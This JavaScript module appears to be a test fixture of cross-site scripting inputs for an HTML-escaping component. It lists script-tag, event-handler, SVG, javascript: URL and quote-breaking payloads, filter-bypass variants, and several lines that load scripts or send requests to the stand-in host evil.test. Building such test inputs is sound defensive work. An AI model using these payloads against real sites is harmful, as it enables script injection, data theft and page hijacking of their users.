'use strict';

/* Values that try to run something, to bring in elements, or to end the markup around them early. */

const RUN = 'window.caught=1';

const scripts = [
  `<script>${RUN}</script>`, `<SCRIPT>${RUN}</SCRIPT>`, `<script src=//evil.test/x.js></script>`, `<script/x>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</script>`, `</script><script>${RUN}</script>`, `<script type=module>${RUN}</script>`,
  `<script\n>${RUN}</script\n>`, `<script\t>${RUN}</script>`, `\u0000<script>${RUN}</script>`, `<%00script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`, `<![CDATA[<script>${RUN}</script>]]>`, `<noscript><script>${RUN}</script></noscript>`,
  `<template><script>${RUN}</script></template>`, `<?xml version="1.0"?><script>${RUN}</script>`
];

const events = [
  `<img src=x onerror=${RUN}>`, `<IMG SRC=x ONERROR="${RUN}">`, `<img/src=x/onerror=${RUN}>`, `<img src=x onerror\n=${RUN}>`,
  `<img src=x:x onerror\u000b=${RUN}>`, `<body onload=${RUN}>`, `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}><option>x</select>`, `<textarea autofocus onfocus=${RUN}></textarea>`, `<video src=x onerror=${RUN}>`,
  `<audio src=x onerror=${RUN}>`, `<video><source onerror=${RUN}></video>`, `<details open ontoggle=${RUN}>x</details>`,
  `<marquee onstart=${RUN}>x</marquee>`, `<div onmouseover=${RUN}>x</div>`, `<td onclick=${RUN}>x</td>`, `<tr onclick=${RUN}>`,
  `<table onclick=${RUN}>`, `<span class=links onclick=${RUN}>x</span>`, `<a href=# onclick=${RUN}>x</a>`,
  `<iframe onload=${RUN}></iframe>`, `<object onerror=${RUN} data=x></object>`, `<style onload=${RUN}></style>`,
  `<link rel=stylesheet href=x onerror=${RUN}>`, `<div style="animation-name:x" onanimationstart=${RUN}></div>`,
  `<button onclick=${RUN}>Save</button>`, `<form onsubmit=${RUN}><input type=submit></form>`, `<p onpointerenter=${RUN}>x`,
  `<input type=image src=x onerror=${RUN}>`, `<hr onclick=${RUN}>`
];

const drawings = [
  `<svg onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg/onload=${RUN}//`, `<svg><animate onbegin=${RUN} attributeName=x>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`, `<svg><foreignObject><body onload=${RUN}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg onload=${RUN}>"></use></svg>`, `<svg><set attributeName=onmouseover to=${RUN}></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`, `<math href="javascript:${RUN}">x</math>`, `<svg><style><img src=x onerror=${RUN}></style></svg>`
];

const addresses = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `<a href="javascript:${RUN}">x</a>`, `<a href=javascript:${RUN}>x</a>`,
  `<a href=javascript:eval("${RUN}")>x</a>`, `<a href=javascript:alert("1")>x</a>`, `<a href="java\nscript:${RUN}">x</a>`,
  `<a href="&#106;avascript:${RUN}">x</a>`, `<a href="data:text/html,<script>${RUN}</script>">x</a>`, `<a href="vbscript:x">x</a>`,
  `<iframe src="javascript:${RUN}"></iframe>`, `<iframe srcdoc="<script>${RUN}</script>"></iframe>`, `<embed src="javascript:${RUN}">`,
  `<object data="javascript:${RUN}"></object>`, `<base href="//evil.test/">`, `<meta http-equiv=refresh content="0;url=//evil.test/">`,
  `<link rel=stylesheet href=//evil.test/x.css>`, `<img src=//evil.test/pixel.gif>`, `<form action=//evil.test/><input type=submit></form>`,
  `<style>@import "//evil.test/x.css";</style>`, `<style>*{background:url(//evil.test/x)}</style>`, `<div style="background:url(//evil.test/x)">x</div>`,
  `<video poster=//evil.test/x>`, `<a ping=//evil.test/ href=#>x</a>`
];

const quotes = [
  `"`, `'`, `"">`, `'>`, `" onclick="${RUN}`, `" onmouseover=${RUN} x="`, `' onmouseover=${RUN} x='`, `"><script>${RUN}</script>`, `'><img src=x onerror=${RUN}>`,
  `")>`, `");${RUN};//`, `")+${RUN}+("`, `","`, `",""`, `\\`, `\\"`, `\\");${RUN}//`, '`${' + RUN + '}`', `a"b'c<d>e&f`, `>`, `<`, `<<`, `>>`, `&`, `&amp;`, `&lt;script&gt;`,
  `&#60;script&#62;`, `&quot;`, `&#x27;`, `<`.repeat(50), `"`.repeat(50), `)>`.repeat(20), `Größe > 5 & < 7`, `5 < 6`, `a<b`, `x</b>y`, `<b>fett</b>`,
  `<!-- comment -->`, `<!DOCTYPE html>`, `]]>`, `{{constructor.constructor("${RUN}")()}}`, `\u202etxt.exe`, `\u2028${RUN}`, `<\u200bscript>`
];

/* The component's own spellings: in some places nothing tells them from the real ones, so their text may move, not more. */
const mimics = [
  `</td>`, `</td></tr>`, `</td></tr></table>`, `</td><td>x`, `</td></tr><tr class=tablerows><td>x`, `</span></td><td>`, `</a></td>`, `</textarea></td>`,
  `"></td><td>`, `</SELECT></td>`, `<OPTION value=1 >x`, `</strong></td>`, `</table></div></td></tr></table>`, `</form>`, `</table></form>`,
  `<span class=links onclick=javascript:showdetails("1","A1","","","2")>x</span></td>`, `<span id=x class=links onclick=javascript:eval("${RUN}")>x</span></td>`,
  `<a href=javascript:ShowErrors()>x</a></td>`, `<input type=button value=x onclick=javascript:deleteObject("A1","","","")>`,
  `<form name=order_1><table width=100% border=0 class=details>`, `<tr class=titles><td nowrap>&nbsp;<strong>x</strong></td>`,
  `<input type=submit  onclick=javascript:winclose("divList") value=" x ">`, `<textarea rows=4 cols=30 id=x></textarea>`, `<hr>`,
  `</td></tr><tr><td nowrap>&nbsp;x</td><td>&nbsp;<input type=text size=10 id=parentNode value="x"></td></tr>`, `" selected>x`, ` selected>`
];

const foreign = [...scripts, ...events, ...drawings, ...addresses, ...quotes];

module.exports = { RUN, foreign, mimics, all: [...foreign, ...mimics] };
